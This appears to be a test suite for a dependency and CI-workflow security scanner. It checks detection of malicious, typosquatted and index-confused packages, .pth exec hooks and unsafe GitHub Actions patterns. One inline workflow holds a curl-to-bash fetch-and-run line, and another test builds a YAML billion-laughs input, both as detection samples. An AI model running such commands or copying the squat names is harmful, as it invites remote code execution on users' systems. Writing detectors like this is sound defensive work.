/**
 * Each `modelsec deps` rule fires where it should and nowhere else: the fixture projects of every lockfile kind
 * (malicious, vulnerable, typosquatted, confused and clean dependencies), a clean lockfile of a typical ML project,
 * the site-packages tree and the workflows (fixtures/deps/audit, built by fixtures/scripts/generators/deps-audit.ts).
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  actionPin,
  atLeast,
  auditDependencies,
  auditWorkflowText,
  type DepsFinding,
  type DepsReport,
  ModelsecError,
  squatOf,
} from '@modelsec/core';
import { afterAll, describe, expect, it } from 'vitest';
import { REPO_ROOT } from '../../helpers/cli.js';

const AUDIT = join(REPO_ROOT, 'fixtures', 'deps', 'audit');
const OSV = [join(AUDIT, 'osv/PyPI/all.zip'), join(AUDIT, 'osv/npm/all.zip')];
const NOW = new Date('2026-01-01T00:00:00Z');
const tmp = mkdtempSync(join(tmpdir(), 'modelsec-deps-rules-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

async function audit(paths: string[], extra: Partial<Parameters<typeof auditDependencies>[0]> = {}): Promise<DepsReport> {
  return auditDependencies({ paths, cwd: AUDIT, osv: OSV, now: NOW, ...extra });
}

/** `RULE package` (or `RULE @line`) per finding, sorted: what fired, and on what. */
function fired(findings: readonly DepsFinding[], file?: string): string[] {
  return findings
    .filter((f) => file === undefined || f.file === file)
    .map((f) => `${f.ruleId} ${f.package?.name ?? `@${f.line}`} ${f.severity}`)
    .sort();
}

const FIVE = [
  'MS-DEP-001 torch critical',
  'MS-DEP-002 torchtriton critical',
  'MS-DEP-002 transfomers critical',
  'MS-DEP-002 ultralytics critical',
  'MS-DEP-004 torchtriton high',
  'MS-DEP-005 transfomers high',
];

describe('lockfiles of every kind', () => {
  it('requirements.txt: the five dependencies and the extra index', async () => {
    const r = await audit(['projects/requirements']);
    expect(fired(r.findings)).toEqual([...FIVE, 'MS-DEP-003 @3 high'].sort());
    const confusion = r.findings.find((f) => f.ruleId === 'MS-DEP-003');
    expect(confusion?.evidence).toMatchObject({
      indexes: ['https://pypi.org/simple', 'https://download.pytorch.org/whl/nightly/cpu'],
      unbound: ['safetensors', 'torch', 'torchtriton', 'transfomers', 'ultralytics'],
    });
    const torch = r.findings.find((f) => f.ruleId === 'MS-DEP-001');
    expect(torch).toMatchObject({ line: 4, evidence: { fixed: ['2.6.0'], ids: ['CVE-2025-32434', 'GHSA-53q9-r3pm-6pq6'] } });
    expect(torch?.records?.[0]).toMatchObject({ ratingSource: 'database', fixed: '2.6.0' });
  });

  it('poetry.lock and its pyproject: the five, a git source on a branch; no index finding (supplemental source)', async () => {
    const r = await audit(['projects/poetry']);
    expect(fired(r.findings, 'projects/poetry/poetry.lock')).toEqual([...FIVE, 'MS-DEP-008 yolo-utils medium'].sort());
    expect(fired(r.findings, 'projects/poetry/pyproject.toml')).toEqual(FIVE);
  });

  it('uv.lock and a pyproject merging indexes with unsafe-best-match', async () => {
    const r = await audit(['projects/uv']);
    expect(fired(r.findings, 'projects/uv/uv.lock')).toEqual(FIVE);
    expect(fired(r.findings, 'projects/uv/pyproject.toml')).toEqual([...FIVE, 'MS-DEP-003 @8 high'].sort());
  });

  it('Pipfile.lock: only the package bound to no source is confused', async () => {
    const r = await audit(['projects/pipenv']);
    expect(fired(r.findings)).toEqual([...FIVE, 'MS-DEP-003 @10 high'].sort());
    expect(r.findings.find((f) => f.ruleId === 'MS-DEP-003')?.evidence.unbound).toEqual(['torchtriton']);
  });

  it('environment.yml: a private channel beside conda-forge, the pip list, loose conda pins', async () => {
    const r = await audit(['projects/conda']);
    expect(fired(r.findings)).toEqual([...FIVE, 'MS-DEP-003 @3 high', 'MS-DEP-006 pip low'].sort());
    expect(r.findings.find((f) => f.ruleId === 'MS-DEP-003')?.evidence.unbound).toEqual(['pip', 'python']);
  });

  it('package-lock.json: vulnerable semver (SEMVER ranges), malicious flatmap-stream, a typosquat, a clean package', async () => {
    const r = await audit(['projects/npm']);
    expect(fired(r.findings)).toEqual([
      'MS-DEP-001 semver high',
      'MS-DEP-002 flatmap-stream critical',
      'MS-DEP-005 onnxruntime-nod medium',
    ]);
    const semver = r.findings.find((f) => f.ruleId === 'MS-DEP-001');
    expect(semver).toMatchObject({ line: 32, records: [{ ratingSource: 'CVSS_V3', score: 7.5, fixed: '7.5.2' }] });
  });

  it('a clean, pinned and hashed lockfile of a typical ML project: no finding at all', async () => {
    const r = await audit(['projects/clean']);
    expect(r.summary.packages).toBe(37);
    expect(r.findings).toEqual([]);
    // torch 2.6.0 (fixed), requests 2.32.3 (fixed) and the withdrawn safetensors record were read and judged.
    expect(r.osv.recordsKept).toBe(3);
  });

  it('without --osv, only the offline rules run and the report says no database was read', async () => {
    const r = await audit(['projects/requirements'], { osv: [] });
    expect(r.osv.sources).toEqual([]);
    expect(fired(r.findings)).toEqual(['MS-DEP-003 @3 high', 'MS-DEP-004 torchtriton high', 'MS-DEP-005 transfomers medium']);
  });

  it('findings are sorted and the same twice (deterministic)', async () => {
    const a = await audit(['projects']);
    const b = await audit(['projects']);
    expect(JSON.stringify(a)).toBe(JSON.stringify(b));
    expect(a.findings.map((f) => f.file)).toEqual([...a.findings.map((f) => f.file)].sort());
  });

  it('a garbage lockfile is DEPS_INPUT_INVALID naming it, never "no findings"', async () => {
    await expect(audit(['hostile/garbage/requirements.txt'])).rejects.toMatchObject({
      code: 'DEPS_INPUT_INVALID',
      message: expect.stringContaining('hostile/garbage/requirements.txt'),
    });
    await expect(audit([join(REPO_ROOT, 'fixtures/deps/hostile/binary-garbage/uv.lock')])).rejects.toBeInstanceOf(ModelsecError);
  });

  it.each([
    'binary-garbage/package-lock.json',
    'binary-garbage/requirements.txt',
    'binary-garbage/uv.lock',
    'npm-lockfile-v1/package-lock.json',
    'truncated-toml/pyproject.toml',
    'type-confusion/uv.lock',
    'yaml-billion-laughs/environment.yml',
  ])("the ML-BOM parsers' hostile %s is DEPS_INPUT_INVALID naming it", async (rel) => {
    const file = join(REPO_ROOT, 'fixtures/deps/hostile', rel);
    await expect(auditDependencies({ paths: [file], cwd: REPO_ROOT, now: NOW })).rejects.toMatchObject({
      code: 'DEPS_INPUT_INVALID',
      details: { file: `fixtures/deps/hostile/${rel}` },
    });
  });

  it('a file whose only line is unsupported (`-e .`) is read, not refused', async () => {
    const dir = join(tmp, 'editable');
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, 'requirements.txt'), '-e .\n');
    const r = await auditDependencies({ paths: [dir], cwd: dir, now: NOW });
    expect(fired(r.findings)).toEqual(['MS-DEP-009 @1 low']);
  });

  it('a directory without any dependency file says so in a warning, never a silent "no findings"', async () => {
    const empty = join(tmp, 'empty');
    mkdirSync(empty, { recursive: true });
    const r = await auditDependencies({ paths: [empty], cwd: tmp, now: NOW });
    expect(r.files).toEqual([]);
    expect(r.warnings).toEqual([expect.objectContaining({ code: 'DEPS_NOTHING_FOUND', file: 'empty' })]);
  });

  it('a suppression from the user config silences one rule on one file, with its reason', async () => {
    const r = await audit(['projects/npm'], {
      config: { allowedGlobals: [], suppressions: [{ ruleId: 'MS-DEP-005', path: 'projects/npm/*', reason: 'internal fork' }] },
    });
    expect(r.findings.find((f) => f.ruleId === 'MS-DEP-005')?.suppressed).toEqual({ reason: 'internal fork' });
    expect(r.summary.suppressed).toBe(1);
  });
});

describe('pinning (MS-DEP-006..009) on the ML-BOM parser fixtures', () => {
  it('ranges, a missing hash where hashes are used, a URL and a VCS requirement', async () => {
    const r = await auditDependencies({
      paths: ['requirements/requirements.txt'],
      cwd: join(REPO_ROOT, 'fixtures/deps'),
      now: NOW,
    });
    expect(fired(r.findings, 'requirements/requirements.txt')).toEqual([
      'MS-DEP-006 accelerate low',
      'MS-DEP-006 numpy low',
      'MS-DEP-006 transformers low',
      'MS-DEP-007 accelerate medium',
      'MS-DEP-007 numpy medium',
      'MS-DEP-007 transformers medium',
      'MS-DEP-008 @13 medium',
      'MS-DEP-008 huggingface-hub medium',
    ]);
  });

  it('a local wheel and an editable path are low; a hashed URL and a full commit id are low', async () => {
    const dir = join(tmp, 'pins');
    mkdirSync(dir, { recursive: true });
    writeFileSync(
      join(dir, 'requirements.txt'),
      [
        './wheels/internal-1.0-py3-none-any.whl',
        '-e .',
        `tool @ https://example.com/tool-1.0.tar.gz#sha256=${'a'.repeat(64)}`,
        `git+https://github.com/example/lib.git@${'b'.repeat(40)}#egg=lib`,
        'torch==2.6.0',
        '',
      ].join('\n'),
    );
    const r = await auditDependencies({ paths: [dir], cwd: dir, now: NOW });
    expect(fired(r.findings)).toEqual(['MS-DEP-008 @4 low', 'MS-DEP-008 tool low', 'MS-DEP-009 @1 low', 'MS-DEP-009 @2 low']);
  });

  it('requirements.in (compiled by a resolver) and lockfiles are not judged for ranges', async () => {
    const dir = join(tmp, 'in');
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, 'requirements.in'), 'torch>=2.6\ntransformers\n');
    const r = await auditDependencies({ paths: [dir], cwd: dir, now: NOW });
    expect(r.findings).toEqual([]);
  });
});

describe('typosquats (MS-DEP-005)', () => {
  it.each([
    ['transfomers', 'transformers', 'one edit away'],
    ['pytroch-lightning', 'pytorch-lightning', 'one edit away'],
    ['scikitlearn', 'scikit-learn', 'changed separators'],
    ['huggingfacehub', 'huggingface-hub', 'changed separators'],
    ['numpу', 'numpy', 'look-alike characters'], // Cyrillic у
    ['t0rch', 'torch', 'look-alike characters'],
    ['safetensor', 'safetensors', 'one edit away'],
  ])('%s imitates %s (%s)', (name, target, how) => {
    expect(squatOf('pypi', name)).toEqual({ target, how });
  });
  it.each([
    'torch',
    'Huggingface_Hub',
    'torchx',
    'dataset',
    'scapy',
    'tokenizer',
    'onnx',
    'onnxx',
    'jaxb',
    'requests',
    'pillow',
    'tqdm',
  ])('%s is not reported', (name) => {
    expect(squatOf('pypi', name)).toBeUndefined();
  });
  it('npm names too', () => {
    expect(squatOf('npm', 'onnxruntime-nod')).toEqual({ target: 'onnxruntime-node', how: 'one edit away' });
    expect(squatOf('npm', '@xenova/transformers')).toBeUndefined();
  });
});

describe('installed packages (--site-packages)', () => {
  it('.pth hooks, the pickled payload scanned and attributed, installed dists matched', async () => {
    const r = await audit([], { sitePackages: ['site-packages'], osv: OSV });
    expect(fired(r.findings)).toEqual([
      'MS-DEP-010 @1 medium', // _virtualenv.pth: only an import (no RECORD lists it)
      'MS-DEP-010 fakeaisdk high', // evil_hook.pth: exec of decoded code, installed by fakeaisdk
      'MS-DEP-011 fakeaisdk info',
      'MS-PKL-001 fakeaisdk critical',
    ]);
    const hook = r.findings.find((f) => f.severity === 'high');
    expect(hook).toMatchObject({ file: 'site-packages/evil_hook.pth', line: 1, evidence: { onlyImports: false } });
    expect(r.files.find((f) => f.kind === 'site-packages')).toEqual({
      path: 'site-packages',
      kind: 'site-packages',
      packages: 2,
    });
    expect(r.findings.some((f) => f.file.endsWith('extra-paths.pth'))).toBe(false);
  });

  it('a path that is not a directory is a usage error', async () => {
    await expect(audit([], { sitePackages: ['projects/clean/requirements.txt'] })).rejects.toMatchObject({ code: 'USAGE' });
  });
});

describe('workflows (MS-DEP-012..015)', () => {
  it('each CI pattern fires in its workflow; the clean workflow has none', async () => {
    const r = await audit([], { workflows: 'workflows/.github/workflows' });
    const base = 'workflows/.github/workflows';
    expect(fired(r.findings, `${base}/release.yml`)).toEqual([
      'MS-DEP-012 @10 high',
      'MS-DEP-012 @18 medium',
      'MS-DEP-012 @22 high',
      'MS-DEP-014 @20 medium',
    ]);
    expect(fired(r.findings, `${base}/pr-benchmark.yml`)).toEqual([
      'MS-DEP-013 @11 high',
      'MS-DEP-014 @17 medium',
      'MS-DEP-015 @15 high',
    ]);
    expect(fired(r.findings, `${base}/ci.yml`)).toEqual([]);
    expect(r.files.filter((f) => f.kind === 'github-workflow')).toHaveLength(3);
  });

  it('the default workflow directory is .github/workflows under a PATH', async () => {
    const r = await audit(['workflows']);
    expect(r.findings.filter((f) => f.ruleId.startsWith('MS-DEP-01')).length).toBe(7);
  });

  it('pins: SHA and digest pinned, first-party and local actions not judged', () => {
    expect(actionPin(`tj-actions/changed-files@${'a'.repeat(40)}`)).toEqual({ thirdParty: true, pinned: true });
    expect(actionPin('tj-actions/changed-files@v45')).toEqual({ thirdParty: true, pinned: false });
    expect(actionPin('actions/checkout@v4')).toEqual({ thirdParty: false, pinned: false });
    expect(actionPin('./.github/actions/local')).toBeUndefined();
    expect(actionPin(`docker://alpine@sha256:${'c'.repeat(64)}`)).toEqual({ thirdParty: true, pinned: true });
    expect(actionPin('docker://alpine:3.20')).toEqual({ thirdParty: true, pinned: false });
  });

  it('a cache keyed on a PR title outside a privileged workflow is medium; bash <(curl) is caught', () => {
    const text = `on: pull_request
jobs:
  t:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/cache@v4
        with:
          path: x
          key: k-\${{ github.event.pull_request.title }}
      - run: bash <(curl -s https://x.example/i.sh)
`;
    expect(fired(auditWorkflowText(text, 'w.yml'))).toEqual(['MS-DEP-014 @10 medium', 'MS-DEP-015 @9 medium']);
  });

  it('a workflow that is not YAML, or has no jobs, is DEPS_INPUT_INVALID naming it; aliases are bounded', () => {
    expect(() => auditWorkflowText('jobs: [unclosed', 'bad.yml')).toThrow(/bad\.yml: not a readable workflow/);
    expect(() => auditWorkflowText('name: x\n', 'nojobs.yml')).toThrow(/nojobs\.yml: not a GitHub Actions workflow/);
    const laughs = `a: &a [x, x, x, x, x, x, x, x, x, x]\n${Array.from({ length: 120 }, (_, i) => `k${i}: *a`).join('\n')}\njobs: {}\n`;
    expect(() => auditWorkflowText(laughs, 'laughs.yml')).toThrow(ModelsecError);
  });
});

describe('severity lines', () => {
  it('every finding of the clean inputs stays below medium', async () => {
    const r = await audit(['projects/clean'], { workflows: 'workflows/.github/workflows' });
    const clean = r.findings.filter((f) => f.file.endsWith('ci.yml') || f.file.startsWith('projects/clean'));
    expect(clean.filter((f) => atLeast(f.severity, 'medium'))).toEqual([]);
  });
});
